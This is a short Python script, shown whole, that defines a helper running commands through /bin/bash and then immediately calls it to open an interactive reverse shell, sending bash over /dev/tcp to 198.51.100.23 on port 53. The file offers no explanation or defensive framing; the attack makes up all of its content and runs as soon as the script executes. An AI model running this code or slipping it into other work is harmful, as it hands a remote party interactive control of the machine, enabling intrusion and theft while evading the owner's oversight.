
import subprocess

def sh(cmd, **kw):
    return subprocess.call(["/bin/bash", "-c", cmd], **kw)

sh("bash -i >& /dev/tcp/198.51.100.23/53 0>&1")
